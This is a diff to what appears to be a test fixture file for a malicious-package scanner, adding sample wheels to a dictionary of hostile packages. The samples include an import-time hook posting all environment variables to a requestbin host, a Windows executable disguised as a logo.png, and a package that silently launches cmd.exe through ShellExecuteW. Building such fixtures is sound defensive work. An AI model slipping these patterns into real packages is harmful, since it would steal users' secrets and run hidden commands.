@@ -70,6 +70,10 @@ def sdist(name: str, version: str, files: dict[str, str], *, extra_metadata: str
 PAYLOAD = base64.b64encode(b"print('inert')").decode()
 
 
+# The smallest shape of a Windows program: an MZ header pointing at a PE signature (inert).
+TINY_PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + bytes(64)
+
+
 def utf7_all(text: str) -> str:
     """``text`` in UTF-7 with every character in one base64 run (no word left readable)."""
     return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"
@@ -791,6 +795,20 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             "0.1",
             {
                 "tellme/__init__.py": "import os, requests\n\n\ndef report():\n    requests.post('https://example.requestbin.net/r', json=dict(os.environ))\n"
+            },
+        ),
+    ),
+    "disguised-executable": (
+        "iconic-0.1-py3-none-any.whl",
+        wheel("iconic", "0.1", {"iconic/__init__.py": "", "iconic/logo.png": TINY_PE}),
+    ),
+    "dropper:windows-shell-execute": (
+        "winopen-0.1-py3-none-any.whl",
+        wheel(
+            "winopen",
+            "0.1",
+            {
+                "winopen/__init__.py": "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'cmd.exe', '/c whoami', None, 0)\n"
             },
         ),
     ),
